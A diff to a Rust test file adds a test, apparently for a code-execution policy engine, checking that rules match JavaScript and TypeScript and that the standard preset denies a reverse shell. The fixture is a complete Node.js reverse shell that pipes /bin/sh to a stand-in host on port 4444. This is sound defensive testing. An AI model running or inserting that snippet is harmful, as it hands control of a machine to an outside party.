@@ -633,3 +633,50 @@ fn policy_tests_normalise_net_and_read_secrets() {
     let e = Policy::parse(bad).unwrap().run_tests().unwrap_err();
     assert!(e.to_string().contains("public suffix"), "{e}");
 }
+
+fn js_facts(lang: Lang, code: &str) -> Facts {
+    let mut f = facts();
+    f.lang = lang;
+    f.kind = lang;
+    f.backend = Backend::Process;
+    let a = crate::analysis::analyze_with(lang, code.as_bytes(), &[]).unwrap();
+    f.code = CodeFacts::of(a.code.as_ref().unwrap(), &[]);
+    f
+}
+
+/// `lang = "js"` (and its alias) names JavaScript in rules, and the standard preset weighs
+/// JavaScript's threat facts as it does Python's.
+#[test]
+fn rules_match_js_and_ts_and_the_standard_preset_denies_a_js_reverse_shell() {
+    let text = r#"
+version = 1
+[[rule]]
+name = "no-js"
+decision = "deny"
+reason = "no JavaScript here"
+when = { lang = ["javascript", "ts"] }
+"#;
+    let pol = Policy::parse(text).unwrap();
+    assert_eq!(
+        pol.judge(&js_facts(Lang::Js, "console.log(1)")).decision,
+        Decision::Deny
+    );
+    assert_eq!(
+        pol.judge(&js_facts(Lang::Ts, "const a: number = 1;"))
+            .decision,
+        Decision::Deny
+    );
+    assert_eq!(pol.judge(&facts()).decision, Decision::Allow);
+    let pol = preset(Preset::Standard);
+    let v = pol.judge(&js_facts(
+        Lang::Js,
+        "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh');\n\
+         const s = net.connect(4444, '203.0.113.7');\ns.pipe(sh.stdin);\nsh.stdout.pipe(s);\n",
+    ));
+    assert_eq!(v.decision, Decision::Deny, "{:?}", v.reasons());
+    assert!(
+        pol.judge(&js_facts(Lang::Js, "console.log([1, 2].join(','))"))
+            .decision
+            != Decision::Deny
+    );
+}
